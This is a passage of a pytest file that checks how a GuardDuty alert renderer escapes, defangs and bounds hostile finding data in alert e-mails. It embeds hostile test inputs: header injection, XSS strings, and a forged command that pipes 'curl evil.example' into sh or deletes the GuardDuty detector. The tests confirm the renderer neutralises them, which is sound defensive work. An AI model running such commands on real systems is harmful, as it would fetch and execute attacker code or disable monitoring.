"""Rendering: subject rules, text and HTML bodies, escaping, defanging, size bounds."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from responder.domain import render as render_module
from responder.domain import respond
from responder.domain.catalog import EN, message
from responder.domain.classify import classify
from responder.domain.cleaning import clean, defang
from responder.domain.i18n import Locale, translator
from responder.domain.models import GuardDutyEvent
from responder.domain.render import BAND_COLOURS, MAX_TEXT_BYTES, render, subject
from responder.domain.runbooks import SPECS, Offer
from responder.domain.settings import Settings
from tests.conftest import FINDING_EVENTS, finding_from, load, minimal_event


def email_for(event, settings=None):
    return render(classify(GuardDutyEvent.model_validate(event).detail, settings or Settings()))


class LinkCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            if name in ("href", "src", "action", "background") and value:
                self.urls.append(value)


# --- subject -------------------------------------------------------------------------


def test_subject_shape():
    email = email_for(minimal_event("UnauthorizedAccess:EC2/SSHBruteForce", 8.0))
    assert email.subject == "[GuardDuty HIGH 8.0] UnauthorizedAccess:EC2/SSHBruteForce i-0123456789abcdef0 123456789012"
    short = email_for(minimal_event("Recon:EC2/Portscan", 5.0))
    assert short.subject == "[GuardDuty MEDIUM 5.0] Recon:EC2/Portscan i-0123456789abcdef0 123456789012 us-east-1"


def test_sample_subject_is_marked():
    email = render(classify(finding_from("events/UnauthorizedAccess_EC2_TorClient.json"), Settings()))
    assert email.subject.startswith("[SAMPLE] [GuardDuty HIGH 8.0] UnauthorizedAccess:EC2/TorClient")


def test_critical_band_in_subject():
    email = render(classify(finding_from("events/AttackSequence_IAM_CompromisedCredentials.json"), Settings()))
    assert email.subject.startswith("[GuardDuty CRITICAL 9.0] AttackSequence:IAM/CompromisedCredentials")


def test_long_subject_is_cut_at_99_keeping_band_and_type_first():
    long_type = "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount"
    email = email_for(minimal_event(long_type, 8.0))
    assert len(email.subject) == 99
    assert email.subject.startswith("[GuardDuty HIGH 8.0] Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!")


def test_subject_never_carries_unvalidated_values():
    event = minimal_event(
        "Recon:EC2/Probe\r\nBcc: evil@example.com",
        accountId="12345\n6789012",
        region="us-east-1\r\nX: y",
        resource={"resourceType": "Instance", "instanceDetails": {"instanceId": "i-1 \u00e9\u202e"}},
    )
    email = email_for(event)
    assert email.subject == "[GuardDuty MEDIUM 5.0] UnrecognisedFindingType"


@pytest.mark.parametrize("path", FINDING_EVENTS, ids=lambda p: p.stem)
def test_subjects_of_all_bundled_events_are_printable_ascii(path):
    email = render(classify(finding_from(path), Settings()))
    assert re.fullmatch(r"[ -~]{1,99}", email.subject)


# --- text body -----------------------------------------------------------------------


def test_text_sections_follow_triage_order():
    email = render(classify(finding_from("events/UnauthorizedAccess_EC2_SSHBruteForce.json"), Settings()))
    headings = [line.strip("= ") for line in email.text.splitlines() if line.startswith("== ")]
    expected = ["h.how_bad", "h.what", "h.resource", "h.happened", "h.how_often", "h.todo"]
    expected += ["h.respond", "h.aftercare", "h.links"]  # Respond right after "What to do now"
    assert headings == [EN[key].upper() for key in expected]


def test_text_contains_steps_commands_and_links():
    c = classify(finding_from("events/UnauthorizedAccess_EC2_SSHBruteForce.json"), Settings())
    text = render(c).text
    for number, step in enumerate(c.presentation.steps, start=1):
        assert f"{number}. {step}" in text
    assert c.links.archive_command in text
    assert c.links.export_command in text
    assert c.links.console_url and c.links.console_url in text
    assert c.links.docs_url in text


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("events/UnauthorizedAccess_EC2_SSHBruteForce.json", ["Connection direction: Inbound", "Local port: 22 (SSH)"]),
        ("events/Recon_EC2_PortProbeUnprotectedPort.json", ["Probed ports: 80 (HTTP), 443 (HTTPS)"]),
        ("events/Trojan_EC2_DNSDataExfiltration.json", ["Action type: DNS_REQUEST", "Domain: "]),
        ("events/Recon_IAMUser_MaliciousIPCaller.json", ["Action type: AWS_API_CALL", "API: "]),
        ("events/Discovery_Kubernetes_TorIPCaller.json", ["Verb: list", "Source IPs: 175.16.199[.]1"]),
        ("events/CredentialAccess_RDS_AnomalousBehavior.SuccessfulLogin.json", ["Database user: Generated"]),
        ("crafted/Discovery_Kubernetes_PermissionChecked.json", ["Allowed: yes", "Namespace: kube-system"]),
        ("crafted/PrivilegeEscalation_Kubernetes_RoleBindingCreated.json", ["Role: ClusterRole cluster-admin"]),
        ("crafted/Future_Unknown_Type.json", ["Action type: SATELLITE_UPLINK"]),
        ("crafted/Runtime_CGroupsReleaseAgentModified_completed.json", [f"Action type: {EN['v.no_action']}"]),
    ],
)
def test_each_action_type_renders_its_details_in_text_and_html(path, expected):
    email = render(classify(finding_from(path), Settings()))
    for snippet in expected:
        assert snippet in email.text
        label, _, value = snippet.partition(": ")
        assert f">{label}</td>" in email.html
        assert value.split(" (")[0].replace("'", "&#39;") in email.html


def test_long_fields_are_truncated_with_marker_but_steps_are_not():
    huge = "A" * 500_000
    event = minimal_event(
        description=huge,
        title=huge,
        service={
            "action": {
                "actionType": "AWS_API_CALL",
                "awsApiCallAction": {
                    "userAgent": huge,
                    "api": huge,
                    "affectedResources": {f"k{i}": huge for i in range(50)},
                },
            },
            "evidence": {"threatIntelligenceDetails": [{"threatListName": huge, "threatNames": [huge] * 50}] * 50},
        },
    )
    c = classify(GuardDutyEvent.model_validate(event).detail, Settings())
    email = render(c)
    assert len(email.text.encode("utf-8")) <= MAX_TEXT_BYTES
    assert message("l.truncated") in email.text
    for step in c.presentation.steps:
        assert step in email.text


def test_multibyte_text_is_bounded_in_bytes():
    huge = "\U0001f600" * 300_000  # 4 bytes each in UTF-8
    event = minimal_event(
        description=huge, service={"evidence": {"threatIntelligenceDetails": [{"threatNames": [huge] * 10}] * 10}}
    )
    email = email_for(event)
    assert len(email.text.encode("utf-8")) <= MAX_TEXT_BYTES


# --- html body ------------------------------------------------------------------------


@pytest.mark.parametrize(("severity", "band"), [(9.5, "Critical"), (8.0, "High"), (5.0, "Medium"), (2.0, "Low")])
def test_html_uses_the_band_colour(severity, band):
    email = email_for(minimal_event(severity=severity))
    assert f"background-color:{BAND_COLOURS[band]}" in email.html
    other = {colour for name, colour in BAND_COLOURS.items() if name != band}
    assert not any(colour in email.html for colour in other)


def test_hostile_finding_is_escaped_defanged_and_links_are_ours():
    c = classify(finding_from("crafted/Hostile_Injection_Attempt.json"), Settings())
    email = render(c)
    collector = LinkCollector()
    collector.feed(email.html)
    # Only the links we build (the finding, the guide, each runbook); no scripts, images, iframes or forms.
    runbooks = [offer.console_url for offer in c.links.respond if offer.console_url]
    assert runbooks  # the archive runbook at least: the check below covers Respond links too
    assert sorted(collector.urls) == sorted([c.links.console_url, c.links.docs_url, *runbooks])
    assert collector.tags.isdisjoint({"script", "img", "svg", "iframe", "form", "object", "embed"})
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in email.html
    assert "&lt;b&gt;Bad &amp; Co&lt;/b&gt;" in email.html
    # Indicators defanged in both bodies
    for body in (email.text, email.html):
        assert "evil[.]example[.]com" in body
        assert "203.0.113[.]7" in body
        assert "http://" not in body.replace(c.links.docs_url, "").replace(c.links.console_url or "", "")
        assert "https://phish" not in body
        assert "\u202e" not in body
        assert "\r" not in body


def test_html_is_self_contained_table_layout():
    email = render(classify(finding_from("events/UnauthorizedAccess_EC2_TorClient.json"), Settings()))
    assert email.html.startswith("<!DOCTYPE html>")
    assert '<html lang="en">' in email.html
    assert "<table" in email.html
    assert "<style" not in email.html  # inline CSS only
    assert "<link" not in email.html
    assert "<script" not in email.html


# --- helpers --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "indicator", "expected"),
    [
        ("203.0.113.7", False, "203.0.113[.]7"),
        ("203.0.113.7", True, "203.0.113[.]7"),
        ("evil.example", True, "evil[.]example"),
        ("sub.evil.com", False, "sub[.]evil[.]com"),
        ("it queried sub.evil.com.", False, "it queried sub[.]evil[.]com."),
        ("see http://x.ru/a", False, "see hxxp[://]x[.]ru/a"),
        ("HTTPS://A.COM", False, "HxxPS[://]A[.]COM"),
        ("javascript:alert(1)", False, "javascript[:]alert(1)"),
        ("2001:db8::1", True, "2001:db8:[:]1"),
        ("AnomalousBehavior.SuccessfulLogin", False, "AnomalousBehavior[.]SuccessfulLogin"),  # not a type: defanged
        ("m3.xlarge", False, "m3.xlarge"),
        ("2025-08-22T01:40:09.000Z", False, "2025-08-22T01:40:09.000Z"),
        ("version 13.6", False, "version 13.6"),
        ("host.123", True, "host[.]123"),
        ("ftp:x and mailto:y", False, "ftp[:]x and mailto[:]y"),
    ],
)
def test_defang(raw, indicator, expected):
    assert defang(raw, indicator=indicator) == expected


def test_clean_marks_controls_and_bidi_and_bounds():
    # Invisible characters are replaced by a visible marker, never silently removed (issue 10).
    assert clean("a\r\nb\tc\x00d\u202ee\u200bf", 100) == "a b c[U+0000]d[U+202E]e[U+200B]f"
    assert clean("line1\nline2", 100, multiline=True) == "line1\nline2"
    assert clean("x" * 20, 10) == "x" * 10 + " [truncated]"
    assert clean("x" * 1_000_000, 10) == "x" * 10 + " [truncated]"
    assert clean("a\r\n\r\nb", 100, multiline=True) == "a\nb"
    assert clean("a\u2028b\u2029c", 100) == "a b c"  # Unicode line and paragraph separators


def test_subject_function_matches_render():
    c = classify(finding_from("events/UnauthorizedAccess_EC2_TorClient.json"), Settings())
    assert subject(c) == render(c).subject


def test_sample_of_shared_event_renders_for_review():
    email = render(classify(finding_from("events/Backdoor_EC2_DenialOfService.Tcp.json"), Settings()))
    assert "Connection direction: Outbound" in email.text
    assert "ACTOR" in email.text
    assert load("events/Backdoor_EC2_DenialOfService.Tcp.json")["detail"]["id"] in email.text


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_a_scan_result_alert_offers_no_guardduty_command_or_console_link(lang):
    # Given the alert made from a Malware Protection for S3 scan result (no detector, no finding)
    import json
    from pathlib import Path

    from responder.domain.guidance import NO_FINDING_NOTE
    from responder.domain.i18n import translator
    from responder.domain.models import Finding
    from responder.domain.scan_result import finding_detail

    event = json.loads((Path("tests/fixtures/families/S3ObjectScan_THREATS_FOUND.json")).read_text())
    detail = finding_detail(event)
    assert detail is not None
    settings = Settings(language=lang)
    c = classify(Finding.model_validate(detail), settings)
    email = render(c, settings.locale)
    # Then neither body offers archive-findings, get-findings or a console link to a finding that
    # does not exist, and the after-care says why
    for body in (email.text, email.html):
        assert "archive-findings" not in body and "get-findings" not in body
        assert "/guardduty/home" not in body
    note = translator(lang)(NO_FINDING_NOTE)
    assert note in email.text
    # While a GuardDuty finding still gets both commands and its console link
    real = render(classify(finding_from("events/UnauthorizedAccess_EC2_SSHBruteForce.json"), settings), settings.locale)
    assert "archive-findings" in real.text and "get-findings" in real.text and "/guardduty/home" in real.text


def test_a_title_or_description_naming_the_findings_own_type_shows_it_as_the_type():
    # Given a finding whose title is its own type, and whose description names it beside
    # a dotted word that is not the type
    event = minimal_event(
        "Canary:EC2/Stateless.IntegTest",
        title="Canary:EC2/Stateless.IntegTest",
        description="Canary:EC2/Stateless.IntegTest fired; see Stateless.IntegTest and evil.example",
    )
    # When emailed
    text = email_for(event).text
    # Then the type reads as it does on the type line; the rest is prose, defanged
    assert "Title: Canary:EC2/Stateless.IntegTest\n" in text
    assert "Finding type: Canary:EC2/Stateless.IntegTest\n" in text
    assert "Canary:EC2/Stateless.IntegTest fired; see Stateless[.]IntegTest and evil[.]example" in text


def test_a_description_naming_the_findings_own_object_key_shows_it_as_the_path_fact_does():
    # Given an S3 object finding whose description names its object key, and another path
    key = "incoming/2026/11/invoice-4471.pdf.exe"
    event = minimal_event(
        "Object:S3/MaliciousFile",
        8.0,
        description=f"Found in object {key} (version v1) of bucket b; also see other/x.pdf.exe and evil.example.",
        resource={
            "resourceType": "S3Object",
            "s3BucketDetails": [{"name": "customer-uploads", "s3ObjectDetails": [{"key": key, "versionId": "v1"}]}],
        },
    )
    # When emailed
    text = email_for(event).text
    # Then the key reads as the resource section shows it; another path in prose stays defanged
    assert f"Found in object {key} (version v1)" in text
    assert "other/x[.]pdf[.]exe and evil[.]example." in text


# --- account names (issue 13) ---------------------------------------------------------

SHORT = minimal_event("Recon:EC2/Portscan", 5.0)  # subject without a name: 84 characters, all parts
TODAY = "[GuardDuty MEDIUM 5.0] Recon:EC2/Portscan i-0123456789abcdef0 123456789012 us-east-1"


def named_email(name, event=SHORT, lang="en"):
    """The email of ``event`` whose account the operator's ACCOUNT_NAMES names ``name``."""
    settings = Settings(language=lang, account_names={"123456789012": name})
    return render(classify(GuardDutyEvent.model_validate(event).detail, settings), settings.locale)


def how_bad(text):
    """The rows of the text body's first section (How bad)."""
    return text.split("\n== ")[1].split("\n\n")[0].splitlines()[1:]


def test_a_named_account_is_named_in_the_subject_how_bad_and_the_account_fact():
    # Given an account the operator's mapping names
    email = named_email("pay-prod")
    # When emailed
    # Then the subject names it where the id was, and the body names it at the top and in its fact
    assert (
        email.subject
        == "[GuardDuty MEDIUM 5.0] Recon:EC2/Portscan i-0123456789abcdef0 pay-prod (123456789012) us-east-1"
    )
    assert "Account: pay-prod (123456789012)" in how_bad(email.text)
    assert email.text.count("Account: pay-prod (123456789012)\n") == 2  # how bad, and what it is
    assert email.html.count(">pay-prod (123456789012)</td>") == 2
    assert f"<title>{email.subject}</title>" in email.html


def test_without_a_name_the_account_is_its_id_and_how_bad_has_no_account_row():
    # Given no name for the account (no organisation data, no mapping)
    email = email_for(SHORT)
    # Then the email is today's: the id in the subject and the fact, nothing added at the top
    assert email.subject == TODAY
    assert not any(row.startswith("Account:") for row in how_bad(email.text))
    assert "Account: 123456789012\n" in email.text


def test_a_name_that_does_not_fit_leaves_the_id_in_the_subject():
    # Given a subject with room for the id but not for a 50-character name
    name = "n" * 50
    email = named_email(name)
    # Then the subject keeps the id (and the Region), never a cut name; the body names it in full
    assert email.subject == TODAY
    assert f"Account: {name} (123456789012)" in email.text


def test_a_name_that_fits_takes_the_accounts_place_before_the_region():
    # Given a name that fits in the subject only if the Region is left out (13 to 22 characters)
    email = named_email("team-payments-abc")
    # Then the account outranks the Region, as the id does: the Region is still in the body
    assert email.subject == (
        "[GuardDuty MEDIUM 5.0] Recon:EC2/Portscan i-0123456789abcdef0 team-payments-abc (123456789012)"
    )
    assert len(email.subject) <= 99
    assert "Region: us-east-1" in email.text


@pytest.mark.parametrize(
    ("name", "text_shows", "html_shows"),
    [
        ("evil.com", "evil[.]com (123456789012)", "evil[.]com (123456789012)"),
        ("<b>x</b>", "<b>x</b> (123456789012)", "&lt;b&gt;x&lt;/b&gt; (123456789012)"),
        ("https://evil.example/x", "hxxps[://]evil[.]example/x (123456789012)", None),
        ("ops@evil.example", "ops[@]evil[.]example (123456789012)", None),
        ("evil.example", "evil[.]example (123456789012)", None),  # no real top-level domain: still host-like
        ("javascript:alert(1)", "javascript[:]alert(1) (123456789012)", None),
        ("a  b", "a b (123456789012)", None),  # collapsed by cleaning: changed, so not in the subject
        ('x" onmouseover="y', 'x" onmouseover="y (123456789012)', "x&#34; onmouseover=&#34;y (123456789012)"),
    ],
)
def test_a_hostile_name_is_never_in_the_subject_and_escaped_and_defanged_in_the_body(name, text_shows, html_shows):
    # Given an account name that passes Organizations' rules but is a domain, markup, a URL ...
    email = named_email(name)
    # Then the subject keeps the id alone (and stays printable ASCII)
    assert email.subject == TODAY
    # And both bodies show it cleaned and defanged (the HTML escaped), with no link or tag of its own
    assert f"Account: {text_shows}\n" in email.text
    assert (html_shows or text_shows) in email.html
    assert name not in email.html or name == "a  b"
    collector = LinkCollector()
    collector.feed(email.html)
    assert "b" not in collector.tags
    assert all("evil" not in url for url in collector.urls)


@pytest.mark.parametrize(
    "name", ["payments\r\nBcc: x@evil.example", "pay\u202eprod", "n" * 51, "支払い", "", "  ", "pay\tprod"]
)
def test_a_name_organizations_would_refuse_is_not_shown_at_all(name):
    # Given the organisation's data for the account carries a name no account can have
    from responder.domain.accounts import Account

    finding = GuardDutyEvent.model_validate(SHORT).detail
    c = classify(finding, Settings(), Account("123456789012", name))
    # When emailed
    email = render(c)
    # Then the email is byte for byte the email of an unnamed account
    assert c.triage.account_name is None
    assert email == email_for(SHORT)
    # While a name an account can have, given the same way, is shown
    assert "pay-prod (123456789012)" in render(classify(finding, Settings(), Account("123456789012", "pay-prod"))).text


def test_a_named_account_in_japanese_names_it_in_the_local_subject_and_the_japanese_rows():
    # Given a Japanese email of a named account
    email = named_email("pay-prod", lang="ja")
    # Then the local subject names it as the English one does, under the Japanese label
    assert (
        email.local_subject
        == "[GuardDuty 中 5.0] Recon:EC2/Portscan i-0123456789abcdef0 pay-prod (123456789012) us-east-1"
    )
    assert email.subject.endswith(" pay-prod (123456789012) us-east-1")
    assert f"{message('f.account', 'ja')}: pay-prod (123456789012)" in how_bad(email.text)
    # And a hostile name stays out of both subjects there too
    hostile = named_email("<b>x</b> evil.com", lang="ja")
    assert hostile.local_subject is not None
    assert "evil" not in hostile.local_subject and "evil" not in hostile.subject
    assert f"{message('f.account', 'ja')}: <b>x</b> evil[.]com (123456789012)" in hostile.text


# --- Respond section (issue 14) ------------------------------------------------------

DOS = "events/Backdoor_EC2_DenialOfService.Tcp.json"  # an EC2 instance to isolate, valid identifiers
ISOLATE = "GuardDutyResponder-IsolateEc2Instance"
OTHER_ACCOUNT_COMMAND = (
    "aws ssm start-automation-execution --region eu-west-1 --document-name GuardDutyResponder-BlockS3PublicAccess"
    " --parameters BucketName=my-bucket,FindingId=abc"
)
CONSOLE = "https://eu-west-1.console.aws.amazon.com/systems-manager/automation/execute/GuardDutyResponder-BlockS3PublicAccess?region=eu-west-1"


def with_offers(c, *offers):
    """``c`` offering exactly ``offers`` (hand-built, as ``respond`` would build them)."""
    return replace(c, links=replace(c.links, respond=tuple(offers)))


def section(text, heading_key, lang="en"):
    """The lines of one text section, up to the next heading."""
    lines = text.splitlines()
    start = lines.index(f"== {translator(lang)(EN[heading_key]).upper()} ==")
    end = next((i for i in range(start + 1, len(lines)) if lines[i].startswith("== ")), len(lines))
    return lines[start + 1 : end]


def test_the_respond_section_follows_the_steps_with_each_command_on_its_own_line_and_the_step_points_to_it():
    # Given a real finding about an EC2 instance whose identifiers are valid
    c = classify(finding_from(DOS), Settings())
    isolate = next(offer for offer in c.links.respond if offer.key == "isolate")
    assert isolate.command and isolate.console_url
    # When it is rendered
    email = render(c)
    # Then "Respond" comes right after "What to do now", before "After-care"
    headings = [line for line in email.text.splitlines() if line.startswith("== ")]
    todo = headings.index(f"== {EN['h.todo'].upper()} ==")
    assert headings[todo + 1] == f"== {EN['h.respond'].upper()} =="
    assert headings[todo + 2] == f"== {EN['h.aftercare'].upper()} =="
    respond = section(email.text, "h.respond")
    # each offer: its label, the exact command alone on its line, its console link
    assert f"- {EN['r.isolate']}" in respond
    assert f"  {isolate.command}" in respond
    assert f"  {EN['r.console']}: {isolate.console_url}" in respond
    # the isolate step ends with a pointer to the runbook, and only that step
    steps = section(email.text, "h.todo")
    pointer = EN["r.see_respond"].format(name=ISOLATE)
    pointed = [line for line in steps if pointer in line]
    assert len(pointed) == 1
    index = c.presentation.step_intents.index(isolate.intent)
    assert pointed[0] == f"{index + 1}. {c.presentation.steps[index]} {pointer}"
    # and the HTML shows the command whole in a pre/code block (wrapped on screen only, so the email
    # keeps its 600 px width: copying it gives the one line), and the link
    assert f'white-space:pre-wrap;word-break:break-all;"><code>{isolate.command}</code></pre>' in email.html
    assert f'<a href="{isolate.console_url.replace("&", "&amp;")}"' in email.html
    assert pointer in email.html


def test_no_offer_no_respond_section_and_no_pointer():
    # Given a finding offering nothing (runbooks disabled, for instance)
    c = with_offers(classify(finding_from(DOS), Settings()))
    # When it is rendered
    email = render(c)
    # Then neither body has the section, its words or a pointer
    for body in (email.text, email.html):
        assert EN["h.respond"].upper() not in body and EN["h.respond"] not in body
        assert "start-automation-execution" not in body
        assert "(runbook:" not in body


def test_the_archive_runbook_complements_the_after_care_archive_command():
    # Given a finding with the archive runbook offered
    c = classify(finding_from(DOS), Settings())
    archive = next(offer for offer in c.links.respond if offer.key == "archive")
    # When it is rendered
    text = render(c).text
    # Then the Respond section offers the runbook (saying it does what archive-findings does) ...
    respond = section(text, "h.respond")
    assert f"- {EN['r.archive']}" in respond and f"  {archive.command}" in respond
    assert "archive-findings" in EN["r.archive"]
    # ... while After-care keeps its note (when to archive: the one place) and the direct command
    aftercare = section(text, "h.aftercare")
    assert f"  {c.links.archive_command}" in aftercare
    assert not any("start-automation-execution" in line for line in aftercare)


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_a_note_is_translated_with_its_values(lang):
    # Given hand-built offers: one for another account, one whose value failed its rule
    c = with_offers(
        classify(finding_from(DOS), Settings()),
        Offer(
            "public_access",
            None,
            OTHER_ACCOUNT_COMMAND,
            CONSOLE,
            "r.note.other_account",
            (("account", "111122223333"),),
        ),
        Offer("isolate", "isolate", None, None, "r.note.invalid", (("field", "InstanceId"),)),
        Offer("credentials", "rotate", None, None, "r.note.invalid", (("field", "account"),)),
    )
    # When rendered in the language
    email = render(c, Locale(lang))
    respond = section(email.text, "h.respond", lang)
    tr = translator(lang)
    # Then each note is in the language, with its values; commands are never translated
    assert f"  {tr(EN['r.note.other_account']).format(account='111122223333')}" in respond
    assert f"  {tr(EN['r.note.invalid']).format(field='InstanceId')}" in respond  # a parameter name stays
    assert f"  {tr(EN['r.note.invalid']).format(field=tr(EN['r.field.account']))}" in respond  # a word is translated
    assert f"  {OTHER_ACCOUNT_COMMAND}" in respond
    # an offer without a command is still listed (label and note), with no command line
    assert sum(line.startswith("  aws ") for line in respond) == 1
    assert f"- {tr(EN['r.isolate'])}" in respond


def test_a_command_or_link_not_of_the_shape_respond_builds_is_never_shown():
    # Given offers whose command and link were not built by respond (a bug there, or forged)
    hostile = "aws ssm start-automation-execution --parameters InstanceId=i-1;curl evil.example|sh"
    c = with_offers(
        classify(finding_from(DOS), Settings()),
        Offer("isolate", "isolate", hostile, "https://evil.example/systems-manager/x", None),
        Offer("archive", None, "aws guardduty delete-detector --detector-id x", "javascript:alert(1)", None),
        Offer("public_access", None, None, None, "r.note.other_account", (("account", "<script>x</script>"),)),
    )
    # When it is rendered
    email = render(c)
    collector = LinkCollector()
    collector.feed(email.html)
    # Then neither command nor link is shown; a left-out command says so; values are escaped
    for body in (email.text, email.html):
        assert "curl" not in body and "delete-detector" not in body
        assert "evil.example" not in body and "javascript:" not in body
    assert all("systems-manager" not in url for url in collector.urls)
    assert email.text.count(f"  {EN['r.note.unknown']}") == 2
    assert "<script>x" not in email.html and "&lt;script&gt;x" in email.html


def test_an_unknown_note_key_or_a_missing_value_never_fails_the_email():
    # Given notes the catalogue does not know, or lacking a value they name
    c = with_offers(
        classify(finding_from(DOS), Settings()),
        Offer("isolate", "isolate", None, None, "r.note.not_in_the_catalogue"),
        Offer("archive", None, None, None, "r.note.other_account"),
    )
    # When it is rendered
    respond = section(render(c).text, "h.respond")
    # Then the first says to see the console, the second shows "?" for the missing account
    assert f"  {EN['r.note.unknown']}" in respond
    assert f"  {EN['r.note.other_account'].format(account='?')}" in respond


def test_a_step_points_only_to_a_runbook_that_can_act():
    # Given the root user's credentials: the offer says no runbook can contain them
    c = classify(finding_from("events/Policy_IAMUser_RootCredentialUsage.json"), Settings())
    [root] = [offer for offer in c.links.respond if offer.key == "credentials"]
    assert root.note == "r.note.root" and root.command is None
    # When it is rendered
    text = render(c).text
    # Then the section explains it, and no step points to the credentials runbook
    assert f"  {EN['r.note.root']}" in section(text, "h.respond")
    assert "GuardDutyResponder-ContainIamCredentials, below" not in text


def test_several_buckets_point_once_to_their_runbook():
    # Given three public-access offers answering one step (one per bucket)
    c = classify(finding_from(DOS), Settings())
    intent = c.presentation.step_intents[1]
    offers = [
        Offer("public_access", intent, OTHER_ACCOUNT_COMMAND.replace("my-bucket", f"b{i}x"), CONSOLE) for i in range(3)
    ]
    # When it is rendered
    text = render(with_offers(c, *offers)).text
    # Then the step names the runbook once, and each bucket's command is listed
    pointer = EN["r.see_respond"].format(name="GuardDutyResponder-BlockS3PublicAccess")
    assert text.count(pointer) == 1 and f"2. {c.presentation.steps[1]} {pointer}" in text
    assert all(f"BucketName=b{i}x," in text for i in range(3))


def test_the_japanese_respond_section_keeps_commands_names_and_links_as_they_are():
    # Given the same finding in Japanese
    en = classify(finding_from(DOS), Settings())
    ja_settings = Settings(language="ja")
    ja = classify(finding_from(DOS), ja_settings)
    # When both are rendered
    english, japanese = render(en).text, render(ja, ja_settings.locale).text
    # Then the Japanese section has the Japanese heading and labels and the very same commands and links
    assert "== 対応 (あなたが実行するまで何も実行されません) ==" in japanese
    respond = section(japanese, "h.respond", "ja")
    for offer in ja.links.respond:
        assert f"  {offer.command}" in respond and offer.command in english
        assert f"  {translator('ja')(EN['r.console'])}: {offer.console_url}" in respond
    assert "(下記のランブック: GuardDutyResponder-IsolateEc2Instance)" in japanese


def long_finding():
    """A finding whose values fill the email: it fits only once they are shortened."""
    huge = "x" * 5_000
    event = minimal_event(
        "Backdoor:EC2/DenialOfService.Tcp",
        8.0,
        description=huge,
        service={
            "detectorId": "abcdef0123456789abcdef0123456789",
            "count": 1,
            "archived": False,
            "resourceRole": "ACTOR",
            "evidence": {"threatIntelligenceDetails": [{"threatListName": huge, "threatNames": [huge] * 50}] * 50},
        },
    )
    return classify(GuardDutyEvent.model_validate(event).detail, Settings())


def test_a_long_finding_keeps_its_respond_section_once_its_values_are_shortened():
    # Given a finding far over the SNS limit at full length, with an isolate runbook offered
    c = long_finding()
    assert {offer.key for offer in c.links.respond} >= {"isolate", "archive"}
    # When it is rendered
    email = render(c)
    # Then it fits, its values are shortened, and the Respond section (small, ours) is kept
    assert len(email.text.encode("utf-8")) <= MAX_TEXT_BYTES
    assert message("l.truncated") in email.text
    assert all(f"  {offer.command}" in email.text for offer in c.links.respond)


def test_the_respond_section_goes_before_the_evidence_when_even_short_values_do_not_fit(monkeypatch):
    # Given the long finding, and the size of its shortest form without the Respond section
    c = long_finding()
    monkeypatch.setattr(render_module, "MAX_TEXT_BYTES", 1)  # nothing fits: the last attempt is kept
    bare = len(render(c).text.encode())
    # When the limit is exactly that size
    monkeypatch.setattr(render_module, "MAX_TEXT_BYTES", bare)
    email = render(c)
    # Then the Respond section and its pointers are gone; the evidence and everything else stay
    assert len(email.text.encode()) == bare
    assert EN["h.respond"].upper() not in email.text and EN["h.respond"] not in email.html
    assert "(runbook:" not in email.text and "start-automation-execution" not in email.html
    assert f"== {EN['h.evidence'].upper()} ==" in email.text
    assert c.links.archive_command in email.text
    # And with room for the section (a few kB), the shortest values keep it
    monkeypatch.setattr(render_module, "MAX_TEXT_BYTES", bare + 4_000)
    kept = render(c)
    assert EN["h.respond"].upper() in kept.text and len(kept.text.encode()) <= bare + 4_000


@pytest.mark.parametrize("value", ["BucketName=login.evil.example", "UserName=a.b@evil.example"])
def test_a_command_holding_a_value_like_a_web_or_email_address_is_left_out_with_a_note(value):
    # Given an offer whose command is well-formed but holds a host- or address-like value
    command = OTHER_ACCOUNT_COMMAND.replace("BucketName=my-bucket", value)
    c = with_offers(
        classify(finding_from(DOS), Settings()),
        Offer("public_access", None, command, CONSOLE, "r.note.other_account", (("account", "111122223333"),)),
    )
    # When it is rendered
    email = render(c)
    respond = section(email.text, "h.respond")
    # Then the value never shows as it is (a defanged command would not run: none is shown) ...
    host = value.split("=")[1]
    assert host not in email.text and host not in email.html
    assert not any(line.startswith("  aws ") for line in respond)
    # ... the note says why, the offer's own note and the runbook's console link stay
    assert f"  {EN['r.note.link_like']}" in respond
    assert f"  {EN['r.note.other_account'].format(account='111122223333')}" in respond
    assert f"  {EN['r.console']}: {CONSOLE}" in respond


def test_every_note_respond_can_give_is_in_the_catalogue_and_refusals_get_no_pointer():
    # Given the notes respond.py attaches to offers (its NOTE_* constants and refused roles)
    notes = {value for name, value in vars(respond).items() if name.startswith("NOTE_")}
    notes |= {note for _prefix, note in respond.REFUSED_ROLES}
    # Then each has English (and so Japanese: test_i18n) text; the refusals are the ones render knows
    assert notes and all(note in EN for note in notes)
    assert notes >= render_module.RESPOND_REFUSALS
    # and every runbook offered for the shared samples has a label (an unlabelled one would not show)
    offered = {o.key for path in FINDING_EVENTS for o in classify(finding_from(path), Settings()).links.respond}
    assert offered >= {"isolate", "credentials", "public_access", "archive"}
    assert offered <= set(render_module.RESPOND_LABELS) <= {spec.key for spec in SPECS}


@pytest.mark.parametrize("role", ["ops.exec", "team.io", "ops@security", "path/ops.exec"])
def test_a_member_command_keeps_an_execution_role_name_with_a_dot_or_an_at_sign(role):
    # Given a member account's finding and the responder's execution role setting, a valid name with a dot
    # (or an @) a linkifier might take for a host: the operator's setting, not a finding value
    from responder.domain.classify import assess, response_steps
    from responder.domain.settings import RunbookSettings

    event = load(DOS)
    event["detail"]["accountId"] = "111122223333"
    finding = GuardDutyEvent.model_validate(event).detail
    settings = RunbookSettings(execution_role=role, responder_account="123456789012", responder_region="us-east-1")
    offered = respond.offers(finding, response_steps(finding, assess(finding, Settings())), settings)
    isolate = next(o for o in offered if o.key == "isolate")
    assert isolate.command is not None and f"ExecutionRoleName={role}," in isolate.command
    # When it is rendered
    [item] = render_module.respond_items((isolate,), "en")
    # Then the command is shown exactly, not dropped as link-like
    assert item.command == isolate.command
    assert EN["r.note.link_like"] not in item.notes


@pytest.mark.parametrize(
    ("value", "role"),
    [("BucketName=login.evil.example", "ops.exec"), ("BucketName=login.evil.example", "GuardDutyResponder-X")],
)
